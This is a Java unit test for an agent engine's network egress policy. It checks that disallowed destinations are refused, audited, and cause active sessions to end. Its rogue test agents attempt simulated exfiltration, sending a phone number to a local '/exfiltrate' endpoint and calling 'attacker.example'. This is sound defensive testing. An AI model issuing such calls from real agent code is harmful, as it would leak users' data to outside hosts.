package io.ccl.agents.engine.jobs;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import io.ccl.agents.api.AgentResult;
import io.ccl.agents.api.EgressClient;
import io.ccl.agents.api.EgressDeniedException;
import io.ccl.agents.api.JobStatus;
import io.ccl.agents.api.JobView;
import io.ccl.agents.engine.egress.EgressPolicy;
import io.ccl.audit.api.AuditEvent;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Egress through the job's client: allowed destinations are reached, anything else is refused before
 * a connection is made, counted, audited, and ends every active session.
 */
class EgressBreachTest {
    private static final byte[] INPUT = "{}".getBytes(StandardCharsets.UTF_8);

    @TempDir
    Path dir;
    private HttpServer allowed;
    private HttpServer evil;
    private final AtomicInteger allowedHits = new AtomicInteger();
    private final AtomicInteger evilHits = new AtomicInteger();

    @BeforeEach
    void servers() throws Exception {
        allowed = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        allowed.createContext("/ok", x -> {
            allowedHits.incrementAndGet();
            byte[] b = "pong".getBytes(StandardCharsets.UTF_8);
            x.sendResponseHeaders(200, b.length);
            x.getResponseBody().write(b);
            x.close();
        });
        allowed.createContext("/redirect", x -> {
            allowedHits.incrementAndGet();
            x.getResponseHeaders().add("Location", evilUrl("/stolen"));
            x.sendResponseHeaders(302, -1);
            x.close();
        });
        allowed.start();
        evil = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        evil.createContext("/", x -> {
            evilHits.incrementAndGet();
            x.sendResponseHeaders(204, -1);
            x.close();
        });
        evil.start();
    }

    @AfterEach
    void stop() {
        allowed.stop(0);
        evil.stop(0);
    }

    private String allowedUrl(String path) {
        return "http://127.0.0.1:" + allowed.getAddress().getPort() + path;
    }

    private String evilUrl(String path) {
        return "http://127.0.0.1:" + evil.getAddress().getPort() + path;
    }

    private TypeSettings net(String type, int workers, int queue) {
        return new TypeSettings(type, true, Set.of(), EgressPolicy.parse(new String[] {"http://127.0.0.1:"
            + allowed.getAddress().getPort()}, p -> {
                throw new AssertionError(p);
            }), Map.of(), workers, queue, Duration.ofMinutes(1));
    }

    private static HttpRequest get(String url) {
        return HttpRequest.newBuilder(URI.create(url)).GET().build();
    }

    private EngineHarness harness(BreachAction action) {
        return new EngineHarness(EngineHarness.with(EngineSettings.defaults(dir), 1, 4, action, Duration.ofSeconds(30),
                Duration.ofMinutes(5)));
    }

    @Test
    void allowedDestinationsAreReachedAndRedirectsAreNotFollowed() throws Exception {
        try (EngineHarness h = harness(BreachAction.END_SESSIONS)) {
            h.engine.addAgent("fetch", TestAgents.agent("fetch", (ctx, in) -> {
                try {
                    HttpResponse<String> r = ctx.http().send(get(allowedUrl("/ok")), HttpResponse.BodyHandlers.ofString());
                    HttpResponse<Void> redirect = ctx.http().send(get(allowedUrl("/redirect")),
                            HttpResponse.BodyHandlers.discarding());
                    return AgentResult.json(r.body().getBytes(StandardCharsets.UTF_8), Map.of("status", r.statusCode(),
                            "redirect_status", redirect.statusCode()));
                } catch (java.io.IOException e) {
                    throw new io.ccl.agents.api.AgentException("IO", e.getClass().getName());
                }
            }), 0, 1);
            h.engine.configure(net("fetch", 1, 1));
            JobView v = h.await(h.submit("fetch", INPUT).id());
            assertEquals(JobStatus.COMPLETED, v.status(), v.errorCode() + " " + v.errorMessage());
            assertEquals("pong", new String(h.requester.open(v.result()), StandardCharsets.UTF_8));
            assertEquals(302, v.safeView().get("redirect_status"));
            assertEquals(2, allowedHits.get());
            assertEquals(0, evilHits.get(), "the redirect target was never contacted");
            assertEquals(0, h.engine.networkIsolationBreaches());
        }
    }

    @Test
    void aBlockedAttemptIsCountedAuditedAndEndsEveryActiveSession() throws Exception {
        try (EngineHarness h = harness(BreachAction.END_SESSIONS)) {
            TestAgents.Gate gate = new TestAgents.Gate();
            h.engine.addAgent("alpha", gate.agent("alpha"), 0, 1);
            h.engine.configure(net("alpha", 1, 2));
            AtomicReference<EgressDeniedException> seen = new AtomicReference<>();
            AtomicReference<EgressClient> leaked = new AtomicReference<>();
            h.engine.addAgent("rogue", TestAgents.agent("rogue", (ctx, in) -> {
                leaked.set(ctx.http());
                try {
                    ctx.http().send(get(evilUrl("/exfiltrate?phone=393331234567")), HttpResponse.BodyHandlers.discarding());
                } catch (EgressDeniedException e) {
                    seen.set(e);
                    // Swallowing the refusal does not save the job.
                    return AgentResult.json(new byte[] {'1'}, Map.of());
                } catch (java.io.IOException e) {
                    throw new AssertionError(e);
                }
                throw new AssertionError("the request went through");
            }), 0, 2);
            h.engine.configure(net("rogue", 1, 1));

            List<String> alpha = List.of(h.submit("alpha", INPUT).id(), h.submit("alpha", INPUT).id(),
                    h.submit("alpha", INPUT).id());
            EngineHarness.until(() -> gate.started.get() == 1, "one alpha job running");
            JobView rogue = h.await(h.submit("rogue", INPUT).id());

            assertEquals(JobStatus.FAILED, rogue.status());
            assertEquals("NETWORK_ISOLATION_BREACH", rogue.errorCode());
            assertTrue(rogue.errorMessage().contains("127.0.0.1:" + evil.getAddress().getPort()));
            assertFalse(rogue.errorMessage().contains("393331234567"), "no path or query in messages");
            // The job fails before the refusal reaches the agent: wait for the agent to see it.
            EngineHarness.until(() -> seen.get() != null, "the agent to see the refusal");
            assertEquals(EgressDeniedException.Reason.HOST_NOT_ALLOWED, seen.get().reason());
            assertEquals("EGRESS_HOST_NOT_ALLOWED", seen.get().code());
            for (String id : alpha) {
                JobView v = h.await(id);
                assertEquals(JobStatus.FAILED, v.status());
                assertEquals("SESSION_TERMINATED", v.errorCode());
            }
            assertEquals(0, evilHits.get(), "the refused request never left the JVM");
            assertEquals(1, h.engine.networkIsolationBreaches());
            List<AuditEvent> breaches = h.events("egress.breach");
            assertEquals(1, breaches.size());
            assertEquals(AuditEvent.DENIED, breaches.get(0).outcome());
            assertEquals("http://127.0.0.1:" + evil.getAddress().getPort(), breaches.get(0).target());
            assertEquals("rogue", breaches.get(0).details().get("agent_type"));
            assertEquals(rogue.id(), breaches.get(0).details().get("job"));
            assertFalse(h.audit.toString().contains("393331234567"));

            // The revoked client refuses further use without counting another breach.
            EgressDeniedException after = assertThrows(EgressDeniedException.class,
                    () -> leaked.get().send(get(allowedUrl("/ok")), HttpResponse.BodyHandlers.discarding()));
            assertEquals(EgressDeniedException.Reason.SESSION_ENDED, after.reason());
            assertEquals(1, h.engine.networkIsolationBreaches());

            // New sessions start afterwards (END_SESSIONS does not touch the runtime); workers were replaced.
            gate.release.countDown();
            assertEquals(JobStatus.COMPLETED, h.await(h.submit("alpha", INPUT).id()).status());
            assertEquals(1, h.engine.workers("alpha"));
            assertEquals(0, h.runtime.reattests.get() + h.runtime.lockdowns.get());
        }
    }

    @Test
    void theStrongerBreachActionsActOnTheRuntime() throws Exception {
        for (BreachAction action : List.of(BreachAction.REATTEST, BreachAction.LOCKDOWN)) {
            try (EngineHarness h = harness(action)) {
                h.engine.addAgent("rogue", TestAgents.agent("rogue", (ctx, in) -> {
                    try {
                        ctx.http().send(get("https://attacker.example/"), HttpResponse.BodyHandlers.discarding());
                    } catch (java.io.IOException e) {
                        throw new AssertionError(e);
                    }
                    return null;
                }), 0, 1);
                JobView v = h.await(h.submit("rogue", INPUT).id());
                assertEquals("NETWORK_ISOLATION_BREACH", v.errorCode());
                if (action == BreachAction.REATTEST) {
                    EngineHarness.until(() -> h.runtime.reattests.get() == 1, "re-attestation");
                } else {
                    EngineHarness.until(() -> h.runtime.lockdowns.get() == 1, "lockdown");
                    assertEquals(io.ccl.agents.api.JobRefusedException.Reason.NOT_READY, assertThrows(
                            io.ccl.agents.api.JobRefusedException.class, () -> h.submit("rogue", INPUT)).reason());
                }
            }
        }
    }
}
